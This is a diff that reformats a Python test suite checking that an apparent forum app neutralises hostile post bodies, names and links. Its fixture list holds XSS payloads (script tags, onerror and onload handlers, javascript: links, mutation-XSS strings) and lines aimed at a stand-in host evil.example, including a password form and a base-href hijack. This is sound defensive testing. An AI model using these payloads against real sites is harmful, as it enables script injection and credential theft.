@@ -18,12 +18,12 @@ BODIES = [
     "<svg><script>alert(1)</script></svg>",
     "<svg/onload=alert(1)>",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     "<template><script>alert(1)</script></template>",
     "<style>@import url(//evil.example/x.css)</style>",
     "<iframe src=javascript:alert(1)></iframe>",
     "<form action=//evil.example><input name=password></form>",
-    "<a href=\"javascript:alert(1)\">x</a>",
+    '<a href="javascript:alert(1)">x</a>',
     "[x](javascript:alert(1))",
     "[x](JaVaScRiPt:alert(1))",
     "[x](java\tscript:alert(1))",
@@ -39,7 +39,7 @@ BODIES = [
     '[x](https://evil.example/" onmouseover="alert(1))',
     "`</code><script>alert(1)</script>`",
     "```\n</code></pre><script>alert(1)</script>\n```",
-    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+    '<!--<img src="--><img src=x onerror=alert(1)//">',
     "<![CDATA[<img src=x onerror=alert(1)>]]>",
     "<details open ontoggle=alert(1)>",
     "<base href=//evil.example>",
@@ -56,7 +56,20 @@ SCHEMES = ("http://", "https://", "mailto:", "/", "#", "?")
 def assert_harmless(page: Page, bare: Page) -> None:
     """The page has no script, frame, handler or address that the same page without hostile words has not."""
     assert not [text for text in page.scripts if text.strip()]
-    for tag in ("script", "style", "form", "iframe", "object", "embed", "base", "meta", "link", "svg", "img", "template"):
+    for tag in (
+        "script",
+        "style",
+        "form",
+        "iframe",
+        "object",
+        "embed",
+        "base",
+        "meta",
+        "link",
+        "svg",
+        "img",
+        "template",
+    ):
         extra = count(page, tag) - count(bare, tag)
         assert extra <= 0, f"{extra} more <{tag}> than without the words"
     for tag, attributes in page.tags:
@@ -115,7 +128,9 @@ def test_a_hostile_name_is_shown_as_it_was_typed(client, make_thread, bela, bare
     assert count(page, "h1") == 1
 
 
-@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "//evil.example", "\x01javascript:alert(1)"])
+@pytest.mark.parametrize(
+    "url", ["javascript:alert(1)", "data:text/html,x", "//evil.example", "\x01javascript:alert(1)"]
+)
 def test_an_address_from_elsewhere_is_linked_only_when_it_is_on_the_web(client, make_thread, jane, url):
     thread = make_thread(by=jane, said_on="<b>X</b>", said_by="<i>h</i>", said_at_url=url)
     post_reply(thread, by=jane, body="And.", said_on="X", said_at_url=url)
@@ -141,7 +156,33 @@ def test_a_link_shows_the_host_it_leads_to(client, make_thread):
 @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(
     words=st.lists(
-        st.sampled_from(["<", ">", '"', "'", "[x](", ")", "`", "```\n", "script", "javascript:", "on", "load=", "&#", "{{", "\n", " ", "<svg", "<a href=", "\\", "*", "_", "é", "\u202e"]),
+        st.sampled_from(
+            [
+                "<",
+                ">",
+                '"',
+                "'",
+                "[x](",
+                ")",
+                "`",
+                "```\n",
+                "script",
+                "javascript:",
+                "on",
+                "load=",
+                "&#",
+                "{{",
+                "\n",
+                " ",
+                "<svg",
+                "<a href=",
+                "\\",
+                "*",
+                "_",
+                "é",
+                "\u202e",
+            ]
+        ),
         min_size=1,
         max_size=14,
     ).map("".join)
